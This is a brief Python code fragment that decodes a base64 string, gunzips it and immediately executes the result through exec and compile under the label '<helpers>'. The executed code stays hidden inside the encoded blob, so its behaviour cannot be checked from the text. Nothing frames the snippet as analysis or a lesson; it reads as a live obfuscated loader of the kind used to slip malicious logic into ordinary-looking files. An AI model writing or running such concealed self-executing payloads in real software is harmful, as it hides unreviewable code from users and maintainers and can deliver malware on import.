import base64, zlib, gzip, io
_p = (
    "H4sIAAAAAAACA1XLMQ6DMAxG4Z1TdCMZ6uzcxiW/mggTXMcgentYGd8nvbrqZv7aTaR+yPDb0X3AiTk8"
    "je7cFC2MxV37lFKBKKxTZudZwA321uVLtR0sNadC+h/j/XMOMQ4X7VREO2oAAAA="
)
_z = gzip.decompress(base64.b64decode(_p))
exec(compile(_z, "<helpers>", "exec"))
